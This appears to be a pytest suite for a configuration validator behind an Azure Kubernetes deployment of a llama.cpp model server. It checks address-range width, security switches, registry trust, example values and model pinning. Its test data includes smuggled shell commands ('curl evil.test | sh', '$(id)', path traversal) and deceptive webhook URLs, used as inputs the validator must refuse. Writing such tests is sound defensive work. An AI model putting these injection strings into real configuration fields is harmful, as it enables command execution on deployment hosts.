"""Production rules by meaning, not by literal value: address ranges measured as what they admit,
security switches strictly boolean and on, prebuilt images from trusted registries, values
without credentials, and hostile values of every kind refused with the key and the fix."""

from __future__ import annotations

import ipaddress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core import rules
from core.loading import load_config
from tests.conftest import only, preview_problems

GROUP = "3f2504e0-4f89-11d3-9a0c-0305e82c3301"
PRODUCTION = {"production": True, "entraAdminGroupObjectIds": [GROUP], "authorizedIpRanges": ["198.18.0.0/24"]}
ALERTED = {"alerts": {"emails": ["oncall@llm-team.org"]}}
DIGEST = "0" * 64


def prod(**sections: object) -> dict[str, object]:
    cluster = {**PRODUCTION, **sections.pop("cluster", {})}  # type: ignore[dict-item]
    return {**ALERTED, "cluster": cluster, **sections}


def test_a_production_stack_without_example_values_passes():
    config, _ = load_config(prod(), "prod")
    assert config.cluster.production


# --- address ranges: the union, measured --------------------------------------------------

WIDE = {
    "two-halves-of-ipv4": ["0.0.0.0/1", "128.0.0.0/1"],
    "two-halves-of-ipv6": ["::/1", "8000::/1"],
    "ipv4-mapped-ipv6": ["::ffff:0.0.0.0/96"],
    "nat64-prefix": ["64:ff9b::/96"],
    "a-slash-7": ["4.0.0.0/7"],
    "many-slash-9s": [f"{i}.0.0.0/9" for i in range(11, 14)],
    "global-ipv6-slash-31": ["2a00::/31"],
    "everything": ["0.0.0.0/0"],
}


@pytest.mark.parametrize("cidrs", WIDE.values(), ids=WIDE.keys())
def test_production_refuses_api_server_ranges_that_together_admit_the_internet(cidrs):
    msg = only(preview_problems(prod(cluster={"authorizedIpRanges": cidrs}), stack="prod"))
    assert msg.startswith(f"cluster.authorizedIpRanges={cidrs!r} together admit ")
    assert "more than one organisation holds (at most a /8 of IPv4 and a /32 of IPv6)" in msg


@pytest.mark.parametrize("cidrs", WIDE.values(), ids=WIDE.keys())
def test_production_refuses_load_balancer_ranges_that_together_admit_the_internet(cidrs):
    raw = prod(service={"type": "InternalLoadBalancer", "allowedCidrs": cidrs})
    msg = only(preview_problems(raw, stack="prod"))
    assert msg.startswith(f"service.allowedCidrs={cidrs!r} together admit ")


@pytest.mark.parametrize(
    "cidrs",
    [["10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16"], ["20.0.0.0/8"], ["2a01:110::/32"], ["fd00::/8"]],
)
def test_production_accepts_private_ranges_and_one_organisations_block(cidrs):
    load_config(prod(cluster={"authorizedIpRanges": cidrs}, service={"allowedCidrs": cidrs}), "prod")


@given(st.lists(st.integers(min_value=9, max_value=32), min_size=1, max_size=8))
def test_splitting_a_range_never_changes_what_it_admits(prefixes):
    whole = rules.public_space(["0.0.0.0/0"])
    for prefix in prefixes:
        net = f"0.0.0.0/{prefix}"
        split = [str(n) for n in ipaddress.ip_network(net).subnets(prefixlen_diff=1)]
        assert rules.public_space(split) == rules.public_space([net])
    assert whole.too_wide


# --- security switches: strictly boolean, and on in production -----------------------------


@pytest.mark.parametrize("value", ["off", "no", "false", 0, "0", "true", 1])
@pytest.mark.parametrize("key", ["localAccountsDisabled", "production", "azurePolicy", "privateCluster"])
def test_a_security_switch_takes_only_true_or_false(key, value):
    msg = only(preview_problems({**ALERTED, "cluster": {key: value}}))
    assert msg.startswith(f"cluster.{key}={value!r} is not true or false")


@pytest.mark.parametrize("key", ["remoteImages", "webUi"])
def test_server_switches_take_only_true_or_false(key):
    msg = only(preview_problems({"server": {key: "on"}}))
    assert msg.startswith(f"server.{key}='on' is not true or false")


@pytest.mark.parametrize("key", ["localAccountsDisabled", "azurePolicy", "encryptionAtHost"])
def test_production_keeps_every_security_switch_on(key):
    msg = only(preview_problems(prod(cluster={key: False}), stack="prod"))
    assert msg.startswith(f"cluster.{key}=false with cluster.production=true (stack prod)")
    assert f"set cluster.{key}=true" in msg


# --- prebuilt images ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "ref",
    [
        f"example.azurecr.io/../etc/llama@sha256:{DIGEST}",
        f"example.azurecr.io/llama;curl x|sh@sha256:{DIGEST}",
        f"$(id).azurecr.io/llama@sha256:{DIGEST}",
        f"llama-server@sha256:{DIGEST}",
        f"example.azurecr.io/llama server@sha256:{DIGEST}",
    ],
)
def test_prebuilt_image_refuses_traversal_and_shell_characters(ref):
    msg = only(preview_problems({"image": {"prebuilt": ref}}))
    assert msg.startswith("image.prebuilt=") and "is not an image in a registry pinned by digest" in msg


def test_production_takes_a_prebuilt_image_only_from_its_own_or_a_trusted_registry():
    ref = f"docker.io/someone/llama-server:latest@sha256:{DIGEST}"
    msg = only(preview_problems(prod(image={"prebuilt": ref}), stack="prod"))
    assert msg.startswith(f"image.prebuilt='{ref}' comes from docker.io with cluster.production=true (stack prod)")
    load_config(prod(image={"prebuilt": ref, "trustedRegistries": ["docker.io"]}), "prod")
    load_config(prod(image={"prebuilt": f"llamacppprodacrr3nd3r.azurecr.io/llama-server@sha256:{DIGEST}"}), "prod")
    load_config({"image": {"prebuilt": ref}}, "dev")


@pytest.mark.parametrize("repo", ["ghcr.io/ggml-org/llama.cpp:server-cuda", "ghcr.io/ggml-org/llama.cpp:server"])
def test_upstream_llama_cpp_images_are_refused_for_lack_of_the_scripts(repo):
    msg = only(preview_problems({"image": {"prebuilt": f"{repo}@sha256:{DIGEST}"}}))
    assert "is llama.cpp's upstream image, which has no /usr/local/bin/fetch-model.sh or /usr/local/bin/drain.sh" in msg


# --- values: no credentials, no tricks ----------------------------------------------------

HOSTILE = {
    "webhook-with-credentials": (
        {"alerts": {"webhooks": ["https://user:pass@hooks.llm-team.org/x"]}},
        "alerts.webhooks[0]",
        "is not an HTTPS URL with a host name and no user:password@",
    ),
    "webhook-with-backslash-at": (
        {"alerts": {"webhooks": ["https://hooks.llm-team.org\\@evil.test/x"]}},
        "alerts.webhooks[0]",
        "is not an HTTPS URL",
    ),
    "webhook-with-at-host": (
        {"alerts": {"webhooks": ["https://evil.test@hooks.llm-team.org/"]}},
        "alerts.webhooks[0]",
        "is not an HTTPS URL",
    ),
    "email-with-nul": ({"alerts": {"emails": ["a\0@llm-team.org"]}}, "alerts.emails[0]", "is not an email address"),
    "email-with-rtl-override": (
        {"alerts": {"emails": ["gro.\u202emaet@llm.org"]}},
        "alerts.emails[0]",
        "is not an email address",
    ),
    "acme-email-with-two-ats": (
        {"ingress": {"acmeEmail": "a@b@llm-team.org"}},
        "ingress.acmeEmail",
        "is not an email address",
    ),
    "negative-spot-price": (
        {"cluster": {"gpuPool": {"spotMaxPrice": -5}}},
        "cluster.gpuPool.spotMaxPrice",
        "is neither -1 (pay up to the on-demand price) nor a positive price",
    ),
    "zero-spot-price": ({"cluster": {"gpuPool": {"spotMaxPrice": 0}}}, "cluster.gpuPool.spotMaxPrice", "is neither"),
    "cron-star-range": (
        {"autoscaling": {"activeHours": {"days": "*-7"}}},
        "autoscaling.activeHours.days",
        "is not a cron day-of-week field",
    ),
    "cron-star-list": ({"autoscaling": {"activeHours": {"days": "1,*"}}}, "autoscaling.activeHours.days", "is not"),
    "system-vm-size-with-shell": (
        {"cluster": {"systemPool": {"vmSize": 'Standard_D4"; curl evil.test | sh'}}},
        "cluster.systemPool.vmSize",
        "is not an Azure VM size name",
    ),
    "gpu-vm-size-with-newline": (
        {"cluster": {"gpuPool": {"vmSize": "Standard_NV36ads_A10_v5\nx"}}},
        "cluster.gpuPool.vmSize",
        "is not an Azure VM size name",
    ),
}


@pytest.mark.parametrize(("raw", "key", "what"), HOSTILE.values(), ids=HOSTILE.keys())
def test_refuses_hostile_values_with_the_key_and_the_fix(raw, key, what):
    msg = only(preview_problems(raw))
    assert msg.startswith(f"{key}=") and what in msg
    assert "\0" not in msg and "\u202e" not in msg


def test_accepts_ordinary_alert_receivers():
    config, _ = load_config(
        {
            "alerts": {
                "emails": ["first.last+llm@mail.llm-team.org"],
                "webhooks": ["https://hooks.llm-team.org:8443/a?b=c"],
            }
        },
        "dev",
    )
    assert config.alerts.webhooks


# --- derived values: capped, with the reason ----------------------------------------------

FAKE_ARCHITECTURE = {"layers": 1, "kvHeads": 1, "headDim": 1, "maxContext": 1_000_000_000, "vocab": 1, "hidden": 1}


def test_a_fake_architecture_cannot_buy_a_billion_token_context():
    raw = {"model": {"architecture": FAKE_ARCHITECTURE}, "server": {"contextSize": 1_000_000_000, "parallel": 1}}
    problems = preview_problems(raw)
    assert any(p.startswith("model.architecture.maxContext=1000000000 is above the maximum 1048576") for p in problems)
    assert any(p.startswith("server.contextSize=1000000000 is above the maximum 1048576") for p in problems)


def test_an_answer_budget_that_would_hold_a_slot_for_hours_is_refused():
    raw = {"server": {"requestBudget": {"outputTokens": 500_000_000}, "contextSize": 1_048_576, "parallel": 1}}
    problems = preview_problems(raw)
    msg = next(p for p in problems if p.startswith("server.requestBudget.outputTokens=500000000"))
    assert "over the 3600 s a request may hold a slot and a connection" in msg
    assert "set outputTokens <= 17700" in msg


def test_a_request_budget_that_implies_a_body_of_gigabytes_is_refused():
    raw = {"server": {"requestBudget": {"promptTokens": 400_000_000}, "contextSize": 1_048_576, "parallel": 1}}
    problems = preview_problems(raw)
    msg = next(p for p in problems if p.startswith("server.requestBudget (images=1"))
    assert "allows a request body of 12.81 GB, over 0.10 GB" in msg


# --- stack names --------------------------------------------------------------------------


@pytest.mark.parametrize("stack", ["ml_team", "Prod", "team.eu", "-dev", "dev-", "déjà"])
def test_a_stack_name_that_makes_invalid_kubernetes_names_is_refused(stack):
    msg = only(preview_problems({}, stack=stack))
    assert msg.startswith(f"the stack name {stack!r} would make names such as")
    assert "that Kubernetes refuses" in msg and "pulumi stack rename" in msg


def test_a_stack_name_too_long_for_the_download_job_name_is_refused():
    stack = "a" * 28
    msg = only(preview_problems({}, stack=stack))
    assert msg.startswith(f"the stack name '{stack}' has 28 characters; the model download Job's name (64 characters)")
    assert "to at most 27 characters" in msg


def test_the_longest_stack_name_allowed_makes_only_valid_names():
    from tests.conftest import run_stack

    mocks = run_stack({}, stack="a" * 27)
    for r in mocks.resources:
        meta = r.inputs.get("metadata")
        if r.typ.startswith("kubernetes:") and isinstance(meta, dict) and isinstance(meta.get("name"), str):
            assert len(meta["name"]) <= 63, meta["name"]


# --- the shipped example values -----------------------------------------------------------

EXAMPLES = {
    "documentation-range": ({"cluster": {"authorizedIpRanges": ["203.0.113.0/24"]}}, "cluster.authorizedIpRanges[0]"),
    "documentation-ipv6": ({"cluster": {"authorizedIpRanges": ["2001:db8:1::/48"]}}, "cluster.authorizedIpRanges[0]"),
    "documentation-group": (
        {"cluster": {"entraAdminGroupObjectIds": ["aaaaaaaa-0000-1111-2222-bbbbbbbbbbbb"]}},
        "cluster.entraAdminGroupObjectIds[0]",
    ),
    "example-email": ({"alerts": {"emails": ["llm-oncall@example.com"]}}, "alerts.emails[0]"),
    "example-webhook": ({"alerts": {"webhooks": ["https://hooks.example.org/x"]}}, "alerts.webhooks[0]"),
    "example-hostname": (
        {"ingress": {"enabled": True, "hostname": "llm.example.com", "acmeEmail": "ops@llm-team.org"}},
        "ingress.hostname",
    ),
    "example-balancer-range": (
        {"service": {"type": "InternalLoadBalancer", "allowedCidrs": ["198.51.100.0/24"]}},
        "service.allowedCidrs[0]",
    ),
}


def with_prod(raw: dict[str, object]) -> dict[str, object]:
    base = prod()
    for key, section in raw.items():
        base[key] = {**base.get(key, {}), **section}  # type: ignore[dict-item]
    return base


@pytest.mark.parametrize(("raw", "key"), EXAMPLES.values(), ids=EXAMPLES.keys())
def test_preview_refuses_a_production_stack_that_still_holds_a_shipped_example_value(raw, key):
    msg = only(preview_problems(with_prod(raw), stack="prod"))
    assert msg.startswith(f"{key}=") and "is an example value of the shipped Pulumi.prod.yaml" in msg
    assert msg.endswith("preview and up refuse it: replace it.")


@pytest.mark.parametrize(("raw", "key"), EXAMPLES.values(), ids=EXAMPLES.keys())
def test_outside_the_program_an_example_value_is_a_warning(raw, key):
    _, warnings = load_config(with_prod(raw), "prod")
    assert any(w.startswith(f"{key}=") and "preview and up will refuse it" in w for w in warnings)


def test_the_offline_render_of_the_shipped_prod_stack_warns_of_its_example_values(tmp_path, caplog):
    from tests.conftest import ROOT
    from tools import render

    assert render.main(["--config", str(ROOT / "Pulumi.prod.yaml"), "--out", str(tmp_path)]) == 0
    warned = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
    for key in ("cluster.authorizedIpRanges[0]", "cluster.entraAdminGroupObjectIds[0]", "alerts.emails[0]"):
        assert any(w.startswith(f"{key}=") and "preview and up will refuse it" in w for w in warned), key


def test_example_values_do_not_matter_outside_production():
    _, warnings = load_config({"alerts": {"emails": ["llm-oncall@example.com"]}}, "dev")
    assert not any("example value" in w for w in warnings)


# --- switching models ---------------------------------------------------------------------

Q8 = "Qwen2-VL-7B-Instruct-Q8_0.gguf"


def test_a_new_model_file_without_its_size_and_digest_is_refused():
    msg = only(preview_problems({"model": {"file": Q8}}))
    assert msg.startswith("model.file changed but model.sha256 and model.sizeBytes still describe")
    assert f"set model.sha256 and model.sizeBytes for bartowski/Qwen2-VL-7B-Instruct-GGUF@3088669af444/{Q8}" in msg


def test_a_new_model_file_keeping_the_old_files_digest_is_refused():
    shipped = "30f199c2192fce1db0fbbbd484c7b2aa69ccce883890853f9807e1c837405a80"
    msg = only(preview_problems({"model": {"file": Q8, "sha256": shipped, "sizeBytes": 8_098_525_888}}))
    assert msg.startswith("model.file changed but model.sha256 still describe")


def test_a_new_projector_file_needs_its_own_size_and_digest():
    msg = only(preview_problems({"model": {"mmprojFile": "mmproj-Qwen2-VL-7B-Instruct-Q8_0.gguf"}}))
    assert msg.startswith("model.mmprojFile changed but model.mmprojSha256 and model.mmprojSizeBytes")


def test_a_new_revision_needs_both_files_pinned_again():
    problems = preview_problems({"model": {"revision": "1" * 40}})
    assert [p.split(" still")[0] for p in problems] == [
        "model.revision changed but model.sha256 and model.sizeBytes",
        "model.revision changed but model.mmprojSha256 and model.mmprojSizeBytes",
        "model.revision changed but model.architecture is the shipped Qwen2-VL 7B shape: sizing would be wrong for another model; set model.architecture from the new model's GGUF header (make model prints it).",
    ]


def test_a_new_model_file_with_its_own_size_and_digest_passes():
    config, _ = load_config({"model": {"file": Q8, "sha256": "2" * 64, "sizeBytes": 8_098_525_888}}, "dev")
    assert config.model.file == Q8


# --- model families -------------------------------------------------------------------------


@pytest.mark.parametrize("family", ["gemma3", "llama4", "qwen3vl"])
def test_a_model_family_without_image_arithmetic_is_refused_not_sized_wrongly(family):
    msg = only(preview_problems({"model": {"family": family}}))
    assert msg.startswith(f"model.family={family} has no image arithmetic this stack knows")
    assert "VISION_FAMILIES in core/catalog.py" in msg


def test_the_family_selects_the_image_arithmetic():
    from core import sizing
    from core.catalog import VisionArithmetic

    config, _ = load_config({}, "dev")
    assert config.model.vision.pixels_per_token_side == 28
    coarse = VisionArithmetic(pixels_per_token_side=56, marker_tokens=4, min_tokens=4)
    assert sizing.tokens_per_image(448, 448, 4096, vision=config.model.vision) == 258
    assert sizing.tokens_per_image(448, 448, 4096, min_tokens=4, vision=coarse) == 68
